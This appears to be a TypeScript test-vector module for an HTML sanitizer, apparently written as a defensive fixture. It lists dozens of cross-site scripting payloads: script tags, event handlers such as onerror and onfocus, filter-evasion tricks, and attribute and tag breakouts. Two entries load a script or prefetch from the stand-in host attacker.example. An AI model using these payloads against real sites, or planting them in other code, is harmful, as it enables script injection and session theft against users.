/** Elements and attributes that run scripts by themselves. */
import { group } from './vector.ts';

const scripts = group('markup', 'script element', {
  plain: '<script>window.pwned=1</script>',
  'upper case': '<SCRIPT>window.pwned=1</SCRIPT>',
  'mixed case with attribute': '<ScRiPt type="text/javascript">window.pwned=1</sCrIpT>',
  module: '<script type=module>window.pwned=1</script>',
  'line break inside the tag': '<script\n>window.pwned=1</script\n>',
  'slash instead of a space': '<script/defer>window.pwned=1</script>',
  'form feed in the tag': '<script\f>window.pwned=1</script>',
  'not closed': '<script>window.pwned=1//',
  'source from a data URL': '<script src="data:text/javascript,window.pwned=1"></script>',
  'source from another host': '<script src=//attacker.example/x.js></script>',
  'inside a sentence': 'We agree<script>window.pwned=1</script> with the proposal.',
  'inside a quote block': '> said\n> <script>window.pwned=1</script>',
  'inside a list item': '- one\n- <script>window.pwned=1</script>\n- three',
  'inside a table cell': '| a | b |\n|---|---|\n| <script>window.pwned=1</script> | c |',
  'speculation rules':
    '<script type=speculationrules>{"prefetch":[{"urls":["//attacker.example"]}]}</script>',
});

const handlers = group('markup', 'event handler', {
  'image error': '<img src=x onerror="window.pwned=1">',
  'image error without quotes': '<img src=x onerror=window.pwned=1>',
  'image load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.pwned=1">',
  'image with a slash': '<img/src=x/onerror=window.pwned=1>',
  'upper case handler': '<IMG SRC=x ONERROR="window.pwned=1">',
  'handler in entities': '<img src=x onerror="&#119;indow.pwned&#61;1">',
  'handler in back quotes': '<img src=x onerror=`window.pwned=1`>',
  'handler twice': '<img src=x onerror="" onerror="window.pwned=1">',
  'handler after a newline': '<img src=x\nonerror\n=\n"window.pwned=1">',
  'handler after a tab': '<img\tsrc=x\tonerror\t=window.pwned=1>',
  'handler with a NUL': '<img src=x on\u0000error="window.pwned=1">',
  'focus with autofocus': '<input autofocus onfocus="window.pwned=1">',
  'focus on any element': '<p tabindex=0 autofocus onfocus="window.pwned=1">read me</p>',
  'details toggle': '<details open ontoggle="window.pwned=1"><summary>more</summary></details>',
  'details with a name': '<details name=a open ontoggle=window.pwned=1>',
  'body load': '<body onload="window.pwned=1">',
  'page show': '<body onpageshow="window.pwned=1">',
  'hash change': '<body onhashchange="window.pwned=1"><a href="#x">go</a>',
  'frameset load': '<frameset onload="window.pwned=1"><frame src=x></frameset>',
  'video error': '<video src=x onerror="window.pwned=1"></video>',
  'video source error': '<video><source onerror="window.pwned=1"></video>',
  'audio error': '<audio src=x onerror=window.pwned=1></audio>',
  'media loadstart': '<video src=x onloadstart="window.pwned=1"></video>',
  'animation end': '<p style="animation:x 1ms" onanimationend="window.pwned=1">moves</p>',
  'transition end': '<b style="transition:all 1ms" ontransitionrun="window.pwned=1">moves</b>',
  'marquee start': '<marquee onstart="window.pwned=1">news</marquee>',
  'mouse over': '<a onmouseover="window.pwned=1">hover</a>',
  'pointer events': '<p onpointerenter="window.pwned=1">hover</p>',
  'click on a paragraph': '<p onclick="window.pwned=1">click</p>',
  'content visibility':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="window.pwned=1">x</p>',
  'popover toggle': '<button popovertarget=p>a</button><p id=p popover onbeforetoggle="window.pwned=1">x</p>',
  'dialog cancel':
    '<dialog open oncancel="window.pwned=1"><form method=dialog><button>x</button></form></dialog>',
  'select change': '<select onchange="window.pwned=1"><option>1<option>2</select>',
  'scroll snap': '<p style="overflow:auto" onscrollsnapchange="window.pwned=1">x</p>',
  'unknown element':
    '<debate onclick="window.pwned=1" tabindex=1 onfocus="window.pwned=1" autofocus>x</debate>',
  'style load': '<style onload="window.pwned=1"></style>',
  'link error': '<link rel=stylesheet href=x onerror="window.pwned=1">',
  'script error': '<script src=x onerror="window.pwned=1"></script>',
  'out of a double quoted attribute': '" autofocus onfocus="window.pwned=1" x="',
  'out of a single quoted attribute': "' autofocus onfocus='window.pwned=1' x='",
  'out of an unquoted attribute': 'x autofocus onfocus=window.pwned=1',
  'out of an attribute and its tag': '"><img src=x onerror="window.pwned=1">',
  'out of a title': '</title><img src=x onerror="window.pwned=1">',
  'out of a text area': '</textarea><img src=x onerror="window.pwned=1">',
  'out of an option': '</option></select><img src=x onerror="window.pwned=1">',
  'out of a script string': "'-(window.pwned=1)-'</script><script>window.pwned=1</script>",
  'out of JSON in a script': '{"a":"</script><script>window.pwned=1</script>"}',
  'out of a comment': '--><img src=x onerror="window.pwned=1"><!--',
});

/** Script elements and event handlers. */
export const elements = [...scripts, ...handlers];
